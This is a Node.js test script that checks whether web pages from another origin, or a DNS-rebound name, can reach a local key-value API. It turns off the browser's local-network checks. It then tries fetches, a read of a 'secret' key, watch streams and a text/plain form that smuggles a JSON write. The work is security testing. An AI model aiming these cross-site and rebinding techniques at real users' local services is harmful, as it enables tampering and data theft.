// Pages of other people, and what they get at on this machine. Usage `strangers.mjs PORT ADDRESS…`: from a page of
// http://elsewhere.test:PORT, and from one of a name that leads to the address itself by now, everything is tried that a page
// can do. Says for each address what came of it, as JSON.
import { createServer } from "node:http";
import { launch, open } from "./browser.mjs";

const [port, ...addresses] = process.argv.slice(2);
const html = "<!doctype html><title>of somebody</title>";

// Runs in the page. What it can read of an answer is its status, and "opaque" if not even that.
const attempts = async ({ site, name }) => {
  const ask = (path, options) =>
    fetch(site + path, options).then(
      async (answer) => (answer.type === "opaque" ? "opaque" : `${answer.status}${(await answer.text()).includes("c2VjcmV0") ? ", read" : ""}`),
      () => "refused",
    );
  const put = (how) => JSON.stringify({ key: btoa(`${name}, ${how}`), value: btoa("1") });
  const post = (how, options) => ask("/v3/kv/put", { method: "POST", body: put(how), ...options });
  const headers = { "Content-Type": "application/json" };
  // A form's body is `name=value`; this one is JSON as well.
  const form = () =>
    new Promise((resolve) => {
      const [frame, form, input] = ["iframe", "form", "input"].map((kind) => document.createElement(kind));
      frame.name = "target";
      const before = put("form").slice(0, -4);
      Object.assign(form, { method: "POST", enctype: "text/plain", target: "target", action: `${site}/v3/kv/put` });
      Object.assign(input, { name: before, value: '="}' });
      document.body.append(frame, form);
      form.append(input);
      frame.addEventListener("load", () => resolve("sent"), { once: true });
      form.submit();
    });
  const opens = (channel) =>
    new Promise((resolve) => {
      channel.onopen = () => resolve("open");
      channel.onerror = () => resolve("refused");
    }).finally(() => channel.close());
  return {
    get: await ask("/version"),
    "get, no-cors": await ask("/version", { mode: "no-cors" }),
    range: await ask("/v3/kv/range", { method: "POST", body: JSON.stringify({ key: btoa("secret") }) }),
    post: await post("post"),
    "post of JSON": await post("post of JSON", { headers }),
    "post, no-cors": await post("post, no-cors", { mode: "no-cors" }),
    form: await form(),
    events: await opens(new EventSource(`${site}/v3/watch?key=secret`)),
    socket: await opens(new WebSocket(`${site.replace("http", "ws")}/v3/watch`)),
  };
};

const server = createServer((_, answer) => answer.writeHead(200, { "Content-Type": "text/html" }).end(html));
await new Promise((resolve) => server.listen(Number(port), "127.0.0.1", resolve));
// The browser's own care for machines like this one stays out of it.
const browser = await launch(
  "--host-resolver-rules=MAP elsewhere.test 127.0.0.1, MAP attacker.test 127.0.0.1",
  "--disable-features=LocalNetworkAccessChecks",
);
const from = async (url, site, name) => {
  const page = await open(browser);
  // Somebody gave this machine another interface meanwhile, or took one away: then what came of it says nothing.
  let changed = false;
  const look = (error) => (changed ||= error?.includes("ERR_NETWORK_CHANGED") ?? false);
  page.on("requestfailed", (request) => look(request.failure()?.errorText));
  page.on("websocket", (socket) => socket.on("socketerror", look));
  // As its own server gave it while the name still led there.
  await page.route("http://attacker.test:*/page", (route) => route.fulfill({ contentType: "text/html", body: html }));
  await page.goto(url).catch((error) => look(error.message) || Promise.reject(error));
  const came = changed ? null : await page.evaluate(attempts, { site, name });
  await page.close();
  return changed ? from(url, site, name) : came;
};
try {
  const outcomes = [];
  for (const address of addresses) {
    const rebound = `http://attacker.test:${new URL(`http://${address}`).port}`;
    outcomes.push({
      elsewhere: await from(`http://elsewhere.test:${port}/`, `http://${address}`, "elsewhere"),
      rebound: await from(`${rebound}/page`, rebound, "rebound"),
    });
  }
  console.log(JSON.stringify(outcomes));
} finally {
  await browser.close();
  server.close();
}
